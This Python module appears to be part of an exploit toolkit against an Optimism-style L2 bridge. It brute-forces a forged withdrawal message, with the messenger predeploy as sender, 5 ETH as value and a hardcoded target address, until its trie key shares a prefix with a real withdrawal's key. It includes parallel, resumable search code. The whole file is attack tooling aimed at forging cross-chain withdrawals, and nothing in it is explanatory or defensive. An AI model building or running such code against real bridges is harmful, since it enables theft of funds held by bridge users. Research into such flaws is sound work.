"""
Brute-force search for a forged withdrawal whose trie key shares a prefix
with a real withdrawal's trie key.

Candidates are enumerated by index: the low 16 bits of the index are the
two-byte `data` counter and every overflow of that counter bumps `gasLimit`
by one. `nth_candidate` maps an index to a candidate directly, so a search can
be resumed from any index or split across processes.
"""

import logging
import random
from concurrent.futures import ProcessPoolExecutor
from typing import Optional, Tuple

from eth_typing import ChecksumAddress
from eth_utils.address import to_checksum_address

from .custom_errors import SearchExhaustedError
from .hashing import hash_withdrawal
from .keys import trie_key_for_withdrawal
from .types import SearchResult, WithdrawalMessage

logger = logging.getLogger(__name__)

DATA_COUNTER_SPACE = 0x10000
DATA_COUNTER_BYTES = 2

DEFAULT_MAX_ATTEMPTS = 5_000_000
CHUNK_SIZE = DATA_COUNTER_SPACE
PROGRESS_INTERVAL = 500_000

# Far above any nonce the message passer has handed out (version byte 0x01)
FORGED_NONCE = 0x01000000000000000000000000000000000000000000000000000000004073
# L2CrossDomainMessenger predeploy
FORGED_SENDER = to_checksum_address("0x4200000000000000000000000000000000000007")
FORGED_TARGET = to_checksum_address("0x88d893d62f2A90Fd2C939040feab4E13A9C4F313")
FORGED_VALUE = 5 * 10**18
BASE_GAS_LIMIT = 300_000
GAS_LIMIT_JITTER = 1000


def build_base_candidate(
    target: ChecksumAddress = FORGED_TARGET,
    value: int = FORGED_VALUE,
    nonce: int = FORGED_NONCE,
    sender: ChecksumAddress = FORGED_SENDER,
    base_gas_limit: int = BASE_GAS_LIMIT,
    gas_jitter: int = GAS_LIMIT_JITTER,
    rng: Optional[random.Random] = None,
) -> WithdrawalMessage:
    """
    Build the starting point of a search.

    A random amount in `[0, gas_jitter]` is added to `base_gas_limit` so
    repeated runs explore different candidates and yield different forged
    withdrawal hashes. Pass a seeded `rng` for a reproducible run.
    """
    rng = rng or random.Random()

    return WithdrawalMessage(
        nonce=nonce,
        sender=to_checksum_address(sender),
        target=to_checksum_address(target),
        value=value,
        gasLimit=base_gas_limit + rng.randint(0, gas_jitter),
        data=bytes(DATA_COUNTER_BYTES),
    )


def nth_candidate(base: WithdrawalMessage, n: int) -> WithdrawalMessage:
    if n < 0:
        raise ValueError(f"Candidate index must be non-negative, got {n}")

    gas_offset, counter = divmod(n, DATA_COUNTER_SPACE)

    return base._replace(
        gasLimit=base.gasLimit + gas_offset,
        data=counter.to_bytes(DATA_COUNTER_BYTES, byteorder="big"),
    )


def matches_prefix(trie_key: bytes, prefix: str) -> bool:
    return trie_key.hex().startswith(prefix.lower())


def search_range(
    base: WithdrawalMessage, prefix: str, start: int, stop: int
) -> Optional[Tuple[int, bytes]]:
    """
    Return the first index in `[start, stop)` whose candidate matches, with its
    trie key, or `None`.
    """
    for n in range(start, stop):
        candidate = nth_candidate(base, n)
        trie_key = trie_key_for_withdrawal(hash_withdrawal(candidate))

        if matches_prefix(trie_key, prefix):
            return n, trie_key

        if n and n % PROGRESS_INTERVAL == 0:
            logger.debug("Tried %d candidates for prefix %s", n - start, prefix)

    return None


def _search_chunk(args: Tuple[WithdrawalMessage, str, int, int]):
    return search_range(*args)


def _search_parallel(
    base: WithdrawalMessage, prefix: str, start: int, stop: int, workers: int
) -> Optional[Tuple[int, bytes]]:
    chunks = [
        (base, prefix, chunk_start, min(chunk_start + CHUNK_SIZE, stop))
        for chunk_start in range(start, stop, CHUNK_SIZE)
    ]

    executor = ProcessPoolExecutor(max_workers=workers)

    try:
        # map() yields in submission order, so the first hit is the lowest index
        for found in executor.map(_search_chunk, chunks):
            if found is not None:
                return found
    finally:
        executor.shutdown(wait=True, cancel_futures=True)

    return None


def find_matching_withdrawal(
    base: WithdrawalMessage,
    prefix: str,
    max_attempts: int = DEFAULT_MAX_ATTEMPTS,
    start: int = 0,
    workers: int = 1,
) -> SearchResult:
    """
    Iterate through forged candidates until one has a trie key starting with
    `prefix`.

    Parameters
    ----------
    base : WithdrawalMessage
        Fixed `nonce`, `sender`, `target`, `value` and the starting `gasLimit`.

    prefix : str
        Lowercase hex nibbles (no `0x`) the forged trie key must start with.

    max_attempts : int
        Number of indices to try before giving up.

    start : int
        First candidate index, to resume a previous search.

    workers : int
        Number of processes. Any value gives the same result as `1`.

    Returns
    -------
    SearchResult
        The first matching candidate. There is no attempt at finding the
        "best" one.
    """
    stop = start + max_attempts

    logger.info(
        "Now iterating to find a tx with a matching trie prefix %s (indices %d..%d)",
        prefix,
        start,
        stop,
    )

    if workers > 1:
        found = _search_parallel(base, prefix, start, stop, workers)
    else:
        found = search_range(base, prefix, start, stop)

    if found is None:
        raise SearchExhaustedError(
            f"No forged withdrawal with trie key prefix {prefix} within "
            f"{max_attempts} attempts (indices {start}..{stop}, base gasLimit "
            f"{base.gasLimit}). Rerun with another real candidate or a shorter prefix.",
            prefix=prefix,
            start=start,
            stop=stop,
        )

    index, trie_key = found

    return SearchResult(
        candidate=nth_candidate(base, index),
        index=index,
        trie_key=trie_key,
        attempts=index - start + 1,
    )
